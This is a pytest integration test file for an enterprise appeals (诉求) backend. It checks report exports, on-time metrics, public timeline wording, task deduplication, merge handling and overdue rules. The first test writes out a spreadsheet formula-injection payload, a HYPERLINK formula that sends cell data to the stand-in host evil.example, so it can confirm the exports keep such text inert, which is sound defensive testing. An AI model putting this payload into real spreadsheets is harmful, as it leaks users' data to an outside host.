"""Appeals QA (pass 14, appeals7): the closed loop's reports and the enterprise's side of it.

- the weekly report and 企业问题清单 workbooks keep any text starting with = + - @ as text (formula injection);
- a merged child its enterprise reopens (“未解决”) no longer counts its master's 办结 again in 按时办结率;
- the enterprise's timeline says 交办至… for an accepted 退单 and “办理期限延长…” for a 延期, not the centre's internal
  reasons (同意退单, 本人申请，中心没有其他可审批的工作人员);
- the same 会办 task sent twice (a double tap, a retry without `version`) is one task, alerted once;
- a merge ends the 退单 / 延期 requests still waiting on the merged appeal (they could only be refused by hand);
- 待补充材料 on an overdue appeal: the enterprise's wait is not counted as lateness (it was auto-escalated as
  “超期 5 个工作日以上” at the next tick), and given time again (a longer category) it is no longer flagged 超期.
"""

from __future__ import annotations

import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from tests.integration.test_appeals2_qa_s11 import at, w  # noqa: F401  (pass 11's fixture)
from wxapp_backend.appeals import jobs, metrics, reports, services
from wxapp_backend.appeals.calendar import TZ
from wxapp_backend.appeals.models import AppealExtension, AppealReturn, AppealTask
from wxapp_backend.audit import Actor
from wxapp_backend.db import session_scope

MONDAY = at(2025, 11, 3, 10, 0)


# --- 1. formula injection in the exported workbooks --------------------------------------------------------------

@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_exported_workbooks_keep_formula_like_text_as_text(w, db, lead):  # noqa: F811
    content = f"{lead}HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看\") 我们公司的发票开不出来"
    w.submit(MONDAY, content=content)
    with session_scope() as s:
        issues = reports.issues_xlsx(reports.enterprise_issues(s))
        weekly = reports.weekly_xlsx(reports.weekly(s, "2025-W45"))
    for data, sheet in ((issues, "企业问题清单"), (weekly, "本周诉求")):
        ws = load_workbook(io.BytesIO(data))[sheet]
        cell = next(c for c in ws[2] if isinstance(c.value, str) and "发票" in c.value)
        assert cell.value == content  # the words themselves are not changed
        assert cell.data_type == "s"
        # Still text when staff edit the cell (F2, Enter) in Excel / WPS: + - @ run as formulas as = does.
        assert cell.quotePrefix is True


# --- 2. a merged child reopened by its enterprise is not counted a second time in 按时办结率 -----------------------

def _merged_pair(w):  # noqa: F811
    master = w.submit(MONDAY, content="新华大厦电梯坏了三天了一直没人修")
    child = w.submit(MONDAY, user_id=w.other.id, content="新华大厦的电梯坏了好几天没人修理")
    for appeal_id in (master, child):
        w.act(appeal_id, "accept", now=MONDAY)
    w.act(child, "merge", now=at(2025, 11, 3, 11, 0), master_id=master)
    w.act(master, "resolve", now=at(2025, 11, 5, 10, 0), resolution="已联系物业更换电梯主板")
    assert w.appeal(child).status == "resolved"
    return master, child


def _on_time(start, end):
    with session_scope() as s:
        return metrics.compute(s, start, end, now=end).on_time


def test_a_reopened_merged_child_does_not_count_its_masters_resolution_again(w, db):  # noqa: F811
    master, child = _merged_pair(w)
    week = (at(2025, 11, 3, 0, 0), at(2025, 11, 10, 0, 0))
    assert (_on_time(*week).numerator, _on_time(*week).denominator) == (1, 1)  # the master's 办结, once
    with session_scope() as s:  # the child's enterprise: not solved for us
        services.rate(s, w.other.id, child, resolved=False, satisfaction=3, now=at(2025, 11, 5, 15, 0))
    a = w.appeal(child)
    assert a.status == "in_progress" and a.master_id is None
    # Still one 办结 in that week: the master's, which the child only followed.
    assert _on_time(*week).denominator == 1
    # Resolved on its own later, the child's own 办结 counts, in its own week, against its own new deadline.
    w.act(child, "resolve", now=at(2025, 11, 10, 10, 0), resolution="已另行联系维保单位修复")
    later = _on_time(at(2025, 11, 10, 0, 0), at(2025, 11, 17, 0, 0))
    assert (later.numerator, later.denominator) == (1, 1)
    assert _on_time(*week).denominator == 1


# --- 3. the enterprise's timeline does not carry the centre's internal steps ----------------------------------

def _public_notes(w, appeal_id):  # noqa: F811
    with session_scope() as s:
        appeal = services.get_appeal(s, appeal_id, Actor("user", w.user.id))
        return [(e["action"], e["note"]) for e in services.detail_for_user(s, appeal)["timeline"]]


def test_an_accepted_return_reads_as_a_handover_to_the_enterprise(w, db, make_staff):  # noqa: F811
    appeal_id = w.submit(MONDAY)
    w.act(appeal_id, "accept", now=MONDAY)
    w.act(appeal_id, "assign", now=MONDAY, department="税务所")
    tax = Actor("staff", w.tax.id, role="dept", name="税务小王", department="税务所")
    w.act(appeal_id, "start", now=MONDAY, actor=tax)
    w.act(appeal_id, "return", now=MONDAY, actor=tax, reason="不属于本所职责")
    make_staff(role="dept", department="市场所")
    with session_scope() as s:
        return_id = s.scalar(select(AppealReturn.id).where(AppealReturn.appeal_id == appeal_id))
    w.act(appeal_id, "decide_return", now=MONDAY, return_id=return_id, accept=True, department="市场所")
    notes = _public_notes(w, appeal_id)
    assert ("assigned", "交办至市场所") in notes
    assert not any("退单" in note for _, note in notes)  # the departments' dispute is the centre's business
    # staff still read why it moved
    assert any(note == "同意退单，改派至市场所" for note, _ in w.events(appeal_id, "assigned"))


def test_an_extension_granted_by_its_own_requester_is_not_explained_to_the_enterprise(w, db):  # noqa: F811
    appeal_id = w.submit(MONDAY)
    w.act(appeal_id, "accept", now=MONDAY)
    w.act(appeal_id, "request_extension", now=MONDAY, working_days=3, reason="需现场核查")
    with session_scope() as s:
        ext_id = s.scalar(select(AppealExtension.id).where(AppealExtension.appeal_id == appeal_id))
    w.act(appeal_id, "decide_extension", now=MONDAY, extension_id=ext_id, accept=True)  # the only centre account
    (note, data), = w.events(appeal_id, "extension_approved")
    assert "本人申请" in note and data["own_request"] is True  # on the staff timeline and the audit row
    due = w.appeal(appeal_id).due_at.astimezone(TZ)
    public = [n for action, n in _public_notes(w, appeal_id) if action == "extension_approved"]
    assert public == [f"办理期限延长 3 个工作日，承诺办结时间改为 {due.month}月{due.day}日 {due:%H:%M}"]


# --- 4. a 会办 sent twice (a double tap, a retried request) gives the department one task ------------------------

def test_the_same_coordination_task_sent_twice_is_one_task(w, db, make_staff):  # noqa: F811
    make_staff(role="dept", department="城运中心")
    appeal_id = w.submit(MONDAY)
    w.act(appeal_id, "accept", now=MONDAY)
    w.act(appeal_id, "assign", now=MONDAY, department="城运中心")
    task = {"department": "税务所", "description": "核实开票", "working_days": 3}
    for _ in range(2):  # the API takes an action without `version`: the retry is not refused as stale
        assert w.act(appeal_id, "coordinate", now=MONDAY, tasks=[task]) == "coordinating"
    with session_scope() as s:
        tasks = s.scalars(select(AppealTask).where(AppealTask.appeal_id == appeal_id)).all()
    assert [(t.department, t.description, t.status) for t in tasks] == [("税务所", "核实开票", "open")]
    assert len(w.events(appeal_id, "coordinating")) == 1 and not w.events(appeal_id, "tasks_added")
    # Another task, or the same one for another department, is still added.
    w.act(appeal_id, "coordinate", now=MONDAY, tasks=[task, {"department": "税务所", "description": "上门查看税控盘"}])
    w.act(appeal_id, "coordinate", now=MONDAY, tasks=[{**task, "department": "城运中心"}])
    with session_scope() as s:
        tasks = s.scalars(select(AppealTask).where(AppealTask.appeal_id == appeal_id).order_by(AppealTask.id)).all()
    assert [(t.department, t.description) for t in tasks] == [("税务所", "核实开票"), ("税务所", "上门查看税控盘"),
                                                              ("城运中心", "核实开票")]
    (note, data), _ = w.events(appeal_id, "tasks_added")
    assert data["departments"] == ["税务所"]
    # Once the first one is done, the same task may be given again (it is a new request).
    w.act(appeal_id, "complete_task", now=MONDAY, task_id=tasks[0].id, result="已核实")
    w.act(appeal_id, "coordinate", now=MONDAY, tasks=[task])
    with session_scope() as s:
        assert s.scalar(select(func.count(AppealTask.id)).where(AppealTask.appeal_id == appeal_id,
                                                                AppealTask.status == "open")) == 3


# --- 5. a merge ends the 退单 and 延期 requests still waiting on the merged appeal -----------------------------

def test_merging_an_appeal_ends_its_pending_return_and_extension(w, db):  # noqa: F811
    master = w.submit(MONDAY, content="新华大厦电梯坏了三天了一直没人修")
    child = w.submit(MONDAY, user_id=w.other.id, content="新华大厦的电梯坏了好几天没人修理")
    for appeal_id in (master, child):
        w.act(appeal_id, "accept", now=MONDAY)
    w.act(child, "request_extension", now=MONDAY, working_days=2, reason="需物业配合")
    w.act(child, "return", now=MONDAY, reason="应由物业自行处理")
    w.act(child, "merge", now=at(2025, 11, 3, 11, 0), master_id=master)
    with session_scope() as s:
        assert s.scalars(select(AppealExtension.status).where(AppealExtension.appeal_id == child)).all() == ["rejected"]
        ret = s.scalars(select(AppealReturn).where(AppealReturn.appeal_id == child)).one()
        assert ret.status == "rejected" and ret.decided_by == "system" and "合并" in ret.decision_note
        # no longer waiting in the centre's 待审核 queue (where neither could be granted any more)
        assert services.list_for_staff(s, w.actor, pending_requests=True).total == 0
    assert len([n for n, _ in w.events(child, "noted") if "合并" in n]) == 2  # said on the staff timeline (audited)


# --- 6. the wait for the enterprise's material does not count as lateness of an appeal already overdue -------

def test_waiting_for_material_on_an_overdue_appeal_is_not_counted_as_lateness(w, db):  # noqa: F811
    appeal_id = w.submit(MONDAY)
    w.act(appeal_id, "accept", now=MONDAY)
    due = w.appeal(appeal_id).due_at
    asked = due + timedelta(days=1)  # one working day late (Mon 2025-11-03 + promise: a weekday)
    assert asked.astimezone(TZ).weekday() < 5
    jobs.tick(now=asked - timedelta(minutes=5))
    assert w.appeal(appeal_id).overdue is True
    w.act(appeal_id, "request_info", now=asked, note="请提供税控盘的购买凭证")
    with session_scope() as s:
        late_then = -services.work_calendar(s).working_minutes_between(asked, due)
    back = asked + timedelta(days=7)  # the enterprise answers a week (5 working days) later
    with session_scope() as s:
        services.supplement(s, w.user.id, appeal_id, "凭证照片已补充，请查收", now=back)
    a = w.appeal(appeal_id)
    with session_scope() as s:
        late_now = -services.work_calendar(s).working_minutes_between(back, a.due_at)
    assert late_now == late_then  # as late as when the material was asked for, no later
    assert a.overdue is True  # (still overdue: it was before the wait)
    jobs.tick(now=back + timedelta(minutes=5))
    assert not w.events(appeal_id, "escalated")  # not “超期 5 个工作日以上” for the week the enterprise took
    assert w.appeal(appeal_id).escalated is False


def test_an_appeal_given_time_again_while_waiting_is_not_left_flagged_overdue(w, db):  # noqa: F811
    appeal_id = w.submit(MONDAY)  # 税务: 5 working days
    w.act(appeal_id, "accept", now=MONDAY)
    due = w.appeal(appeal_id).due_at
    jobs.tick(now=due + timedelta(hours=1))
    assert w.appeal(appeal_id).overdue is True
    asked = due + timedelta(days=1)
    w.act(appeal_id, "request_info", now=asked, note="请提供落户材料清单")
    # It turns out to be a 人才/落户 matter: a 10-day promise, 5 working days more than it had
    w.act(appeal_id, "set_category", now=asked + timedelta(hours=1), category="talent")
    assert w.appeal(appeal_id).sla_minutes_left > 0
    back = asked + timedelta(days=1)
    with session_scope() as s:
        services.supplement(s, w.user.id, appeal_id, "材料清单已补充，请查收", now=back)
    a = w.appeal(appeal_id)
    assert a.due_at > back and a.overdue is False  # time left again: not 超期 with a deadline days away
    with session_scope() as s:
        assert services.list_for_staff(s, w.actor, overdue=True).total == 0
        assert reports.weekly(s, "2025-W46")["totals"]["overdue_now"] == 0
